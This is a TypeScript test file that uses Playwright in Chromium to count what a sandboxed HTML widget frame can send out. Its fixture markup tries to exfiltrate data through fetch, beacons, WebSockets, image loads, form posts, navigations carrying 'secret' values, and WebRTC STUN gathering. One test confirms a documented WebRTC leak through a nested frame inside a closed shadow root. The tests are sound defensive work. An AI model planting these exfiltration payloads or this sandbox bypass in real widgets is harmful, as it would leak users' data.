// @vitest-environment node
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { chromium, type Browser, type Page } from 'playwright';
import { chromiumArgs, chromiumPath } from '../../scripts/chromium.mjs';
import { HtmlFrame } from '../../src/primitives/widget/HtmlFrame';
import { startCountingServer, type CountingServer } from './countingServer';

// What an HTML widget's markup can still send out (docs/security.md, "What still gets out"),
// counted rather than inferred: the real HtmlFrame, rendered to markup here (its sandbox, csp
// and referrerpolicy attributes, and the srcdoc frameWrapper builds around frameDocument's), on a page served from
// 127.0.0.1, with each path aiming at a counting server on localhost (another origin) and at a
// UDP port for STUN. A path that must not leak first proves that it ran (the markup posts to the
// page once its attempts are made, or its frame ends on Chromium's error page for a refused
// navigation), then has a settle window in which nothing may arrive.
// Every wait below is for a condition and returns once it holds; 30 s is for a loaded 2-core box.
const WAIT = 30_000;
const SETTLE_MS = 1_000;

let server: CountingServer;
let browser: Browser;

beforeAll(async () => {
  server = await startCountingServer();
  browser = await chromium.launch({ executablePath: chromiumPath(), args: [...chromiumArgs], timeout: WAIT });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** The markup sees this as `probe(message)`: a post to the page, and one per refusal of the frame's own policy. */
const PROBE =
  "<script>var probe = function (message) { parent.postMessage({ probe: message }, '*'); };" +
  "document.addEventListener('securitypolicyviolation', function (event) { probe('refused ' + event.effectiveDirective); });</script>";
const RAN = "<script>probe('ran')</script>";

/** A peer connection that gathers candidates from a STUN server at the counting UDP port, then says so. */
function webrtc(udpPort: number, say: string): string {
  return (
    `try { var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); pc.createDataChannel('x');` +
    ` pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); }).then(function () { ${say}('gathering'); }, function () { ${say}('failed'); }); }` +
    ` catch (error) { ${say}('no RTCPeerConnection'); }`
  );
}

/** The same, as a nested srcdoc frame (which posts to the widget's host page, its top). */
function nestedWebrtc(udpPort: number): string {
  const inner = `<script>var probe = function (message) { top.postMessage({ probe: 'nested ' + message }, '*'); }; ${webrtc(udpPort, 'probe')}</script>`;
  return `<iframe srcdoc="${inner.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
}

/** What the page heard, kept in Node, so a page that was navigated away still has it. */
interface Opened {
  page: Page;
  /** What the markup posted with `probe`. */
  probes: string[];
  /** The page's own policy refusals: `directive blockedURI`. */
  violations: string[];
}

/** Opens the real frame with `markup` on a page with `pagePolicy` (a Content-Security-Policy, or none). */
async function openFrame(name: string, markup: string, pagePolicy = ''): Promise<Opened> {
  const frame = renderToStaticMarkup(createElement(HtmlFrame, { html: markup, title: name }));
  const policy = pagePolicy ? `<meta http-equiv="Content-Security-Policy" content="${pagePolicy}">` : '';
  const path = `/page/${encodeURIComponent(name)}/${pagePolicy ? 'policy' : 'open'}`;
  server.page(
    path,
    `<!doctype html><html><head>${policy}<script>` +
      "addEventListener('message', function (event) { if (event.data && typeof event.data.probe === 'string') heard('probe', event.data.probe); });" +
      "document.addEventListener('securitypolicyviolation', function (event) { heard('violation', event.effectiveDirective + ' ' + event.blockedURI); });" +
      `</script></head><body>${frame}</body></html>`,
  );
  const page = await browser.newPage();
  page.setDefaultTimeout(WAIT);
  const opened: Opened = { page, probes: [], violations: [] };
  await page.exposeFunction('heard', (kind: string, text: string) => {
    (kind === 'probe' ? opened.probes : opened.violations).push(text);
  });
  await page.goto(`http://127.0.0.1:${server.port}${path}`);
  return opened;
}

/** Waits out the settle window, failing as soon as anything the path sent arrives. */
async function settle(prefix: string): Promise<void> {
  const end = Date.now() + SETTLE_MS;
  while (Date.now() < end) {
    expect(server.requests(prefix)).toEqual([]);
    expect(server.packets()).toBe(0);
    await new Promise((done) => setTimeout(done, 100));
  }
}

interface ClosedPath {
  name: string;
  /** The markup, given where the counting server is (`url` ends in a slash) and the STUN port. */
  markup: (url: string, udpPort: number) => string;
  /**
   * What the markup reports besides 'ran' (which starts the settle window): its frame's policy
   * refusing the request, or WebRTC and the nested frame being gone. Checked after the counts,
   * so that a path which does get out fails as a leak.
   */
  says: string[];
}

const closed: ClosedPath[] = [
  {
    name: 'fetch',
    markup: (url) => `${PROBE}<script>fetch('${url}fetch').catch(function () {});</script>${RAN}`,
    says: ['refused connect-src'],
  },
  {
    name: 'XHR',
    markup: (url) => `${PROBE}<script>try { var x = new XMLHttpRequest(); x.open('GET', '${url}xhr'); x.send(); } catch (e) {}</script>${RAN}`,
    says: ['refused connect-src'],
  },
  {
    name: 'sendBeacon',
    markup: (url) => `${PROBE}<script>try { navigator.sendBeacon('${url}beacon', 'secret'); } catch (e) {}</script>${RAN}`,
    says: ['refused connect-src'],
  },
  {
    name: 'WebSocket',
    markup: (url) => `${PROBE}<script>try { new WebSocket('${url.replace('http:', 'ws:')}ws'); } catch (e) {}</script>${RAN}`,
    says: ['refused connect-src'],
  },
  {
    name: 'EventSource',
    markup: (url) => `${PROBE}<script>try { new EventSource('${url}events'); } catch (e) {}</script>${RAN}`,
    says: ['refused connect-src'],
  },
  {
    name: 'link rel=prefetch and rel=preconnect',
    markup: (url) => `${PROBE}<link rel="prefetch" href="${url}prefetch"><link rel="preconnect" href="${url}preconnect">${RAN}`,
    says: [],
  },
  {
    name: 'img to an http(s) host',
    markup: (url) => `${PROBE}<img src="${url}img"><img src="${url.replace('http:', 'https:')}img-https">${RAN}`,
    says: ['refused img-src'],
  },
  {
    name: 'CSS url() image',
    markup: (url) => `${PROBE}<div style="background: url(${url}css); height: 10px"></div>${RAN}`,
    says: ['refused img-src'],
  },
  {
    name: 'form submission',
    // 'ran' first: a submission that went through would replace the document before a later probe.
    markup: (url) => `${PROBE}${RAN}<form action="${url}form"><input name="a" value="secret"></form><script>document.forms[0].submit();</script>`,
    says: [],
  },
  {
    name: 'window.open',
    markup: (url) => `${PROBE}<script>try { window.open('${url}popup'); } catch (e) {}</script>${RAN}`,
    says: [],
  },
  {
    name: 'top navigation',
    // 'ran' first, and the attempts a task later: a top navigation that went through would take
    // the page, and what it heard, away.
    markup: (url) =>
      `${PROBE}${RAN}<a href="${url}top-link" target="_top" id="t">x</a><script>setTimeout(function () {` +
      ` try { top.location.href = '${url}top'; } catch (e) {} document.getElementById('t').click(); }, 100);</script>`,
    says: [],
  },
  {
    name: 'RTCPeerConnection in the frame',
    markup: (_url, udpPort) => `${PROBE}<script>${webrtc(udpPort, 'probe')}</script>${RAN}`,
    says: ['no RTCPeerConnection'],
  },
  {
    name: 'RTCPeerConnection in a nested srcdoc frame',
    markup: (_url, udpPort) =>
      `${PROBE}${nestedWebrtc(udpPort)}<script>probe(document.querySelector('iframe') ? 'nested frame kept' : 'nested frame removed');</script>${RAN}`,
    says: ['nested frame removed'],
  },
];

/** The navigations the frame makes of itself: each ends in a GET to `url` + the name. */
const navigations = [
  { name: 'location.href', target: 'navigate', markup: (url: string) => `<script>location.href = '${url}navigate?secret=1';</script>` },
  { name: 'meta refresh', target: 'refresh', markup: (url: string) => `<meta http-equiv="refresh" content="0;url=${url}refresh?secret=1">` },
  {
    name: 'location.reload() then a navigation',
    target: 'after-reload',
    markup: (url: string) =>
      `<script>if (window.name !== 'reloaded') { window.name = 'reloaded'; location.reload(); } else location.href = '${url}after-reload?secret=1';</script>`,
  },
];

const slug = (name: string) => `/${name.replace(/[^a-z0-9]+/gi, '-').toLowerCase()}`;

describe('what an HTML widget frame sends out, counted in Chromium', () => {
  for (const { name, markup, says } of closed) {
    it(`${name}: reaches neither the http server nor the STUN port`, async () => {
      const prefix = slug(name);
      server.resetPackets();
      const { page, probes } = await openFrame(name, markup(`http://localhost:${server.port}${prefix}/`, server.udpPort));
      try {
        await expect.poll(() => probes, { timeout: WAIT }).toContain('ran');
        await settle(prefix);
        expect(server.requests(prefix)).toEqual([]);
        expect(server.packets()).toBe(0);
        expect(probes).toEqual(expect.arrayContaining(says));
      } finally {
        await page.close();
      }
    });
  }

  for (const { name, markup } of navigations) {
    for (const pagePolicy of ['', "frame-src 'none'"]) {
      const how = pagePolicy ? "with the page's frame-src 'none'" : 'without a page policy';
      it(`${name}: sends nothing ${how}`, async () => {
        const prefix = `${slug(name)}/${pagePolicy ? 'policy' : 'open'}/`;
        server.resetPackets();
        const { page } = await openFrame(name, `${PROBE}${markup(`http://localhost:${server.port}${prefix}`)}`, pagePolicy);
        try {
          // The control: the navigation ran, and was refused where it starts (the frame that
          // held the markup now shows Chromium's error page for a blocked load).
          await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')), { timeout: WAIT }).toBe(true);
          await settle(prefix);
          expect(server.requests(prefix)).toEqual([]);
        } finally {
          await page.close();
        }
      });
    }
  }

  it('a nested frame in a closed declarative shadow root: reaches the STUN port through WebRTC (a documented leak)', async () => {
    server.resetPackets();
    const { page, probes } = await openFrame(
      'closed shadow root',
      `<div><template shadowrootmode="closed">${nestedWebrtc(server.udpPort)}</template></div>`,
    );
    try {
      await expect.poll(() => probes, { timeout: WAIT }).toContain('nested gathering');
      await expect.poll(() => server.packets(), { timeout: WAIT }).toBeGreaterThan(0);
    } finally {
      await page.close();
    }
  });
});
